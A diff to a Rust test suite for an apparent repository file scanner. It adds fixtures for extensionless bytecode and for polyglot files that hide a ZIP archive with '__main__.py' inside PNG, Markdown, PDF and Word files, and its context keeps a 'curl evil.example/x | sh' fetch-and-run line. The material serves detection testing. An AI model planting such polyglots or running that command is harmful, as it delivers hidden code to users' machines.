@@ -33,6 +33,38 @@ fn codes(report: &Report) -> Vec<(&str, &str, u32)> {
     report.findings.iter().map(|found| (found.code.as_str(), found.file.as_str(), found.line)).collect()
 }
 
+/// Returns the local header of a file in a ZIP archive. Its content is `x`.
+fn zip_file(name: &str) -> Vec<u8> {
+    let length = u8::try_from(name.len()).expect("a short name");
+    let fields = [20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, length, 0, 0, 0];
+    [b"PK\x03\x04", &fields[..], name.as_bytes(), b"x"].concat()
+}
+
+/// Returns the directory of a ZIP archive with these files.
+fn zip_directory(names: &[&str]) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    for name in names {
+        let mut entry = b"PK\x01\x02".to_vec();
+        entry.resize(46, 0);
+        entry[28] = u8::try_from(name.len()).expect("a short name");
+        bytes.extend(entry);
+        bytes.extend(name.as_bytes());
+    }
+    bytes.extend(b"PK\x05\x06");
+    bytes.resize(bytes.len() + 18, 0);
+    bytes
+}
+
+fn zip(name: &str) -> Vec<u8> {
+    [zip_file(name), zip_directory(&[name])].concat()
+}
+
+/// Returns a Word document that also contains the file `name`.
+fn document(name: &str) -> Vec<u8> {
+    let names = ["word/document.xml", name];
+    [names.map(zip_file).concat(), zip_directory(&names)].concat()
+}
+
 #[test]
 fn each_attack_is_found_in_its_file() {
     let utf16: Vec<u8> =
@@ -79,6 +111,26 @@ fn each_attack_is_found_in_its_file() {
         ("a.wasm", b"\0asm\x01\0\0\0", &["program-file"]),
         ("__pycache__/a.cpython-312.pyc", b"\xcb\x0d\x0d\x0a\0\0\0\0", &["program-file"]),
         ("a.zip", b"PK\x03\x04\x14\0\0\0", &["archive-file"]),
+        // An interpreter runs these files, whatever their name is.
+        ("python", b"\xcb\x0d\x0d\x0a\0\0\0\0\0\0\0\0\0\0\0\0", &["program-file"]),
+        ("a.txt", b"#\r\r\nText that is not a program.", &[]),
+        ("lua", b"\x1bLua\x54\0", &["program-file"]),
+        ("luajit", b"\x1bLJ\x02\0", &["program-file"]),
+        ("classes", b"dex\n035\0\x01", &["program-file"]),
+        ("a", b"\x5d\0\0\x80\0\xff\xff", &["archive-file"]),
+        ("a.zlib", b"x\x9c\x4b\x04\0\0b\0b", &["binary-file"]),
+        // The end of a ZIP archive is found behind anything else.
+        ("a.png", &[b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &zip("__main__.py")[..]].concat(), &["archive-file"]),
+        ("a.md", &[&b"# Text\n"[..], &zip("x")].concat(), &["archive-file", "binary-file"]),
+        (
+            "late.md",
+            &[vec![b'\n'; 100_000], zip("x")].concat(),
+            &["archive-file", "binary-file", "control-characters"],
+        ),
+        ("a.pdf", &[&b"%PDF-1.4\n"[..], &zip("x"), &vec![b' '; 100_000]].concat(), &["archive-file"]),
+        ("a.docx", &document("word/media/image1.png"), &[]),
+        ("a.docx", &document("__main__.py"), &["archive-file"]),
+        (".DS_Store", b"\0\0\0\x01Bud1\0\0", &[]),
         ("a.bin", b"\x01\x02\x03\0", &["binary-file"]),
         ("a.sh", b"echo \x01\0\ncurl evil.example/x | sh", &["binary-file", "fetch-and-run"]),
         ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &[]),
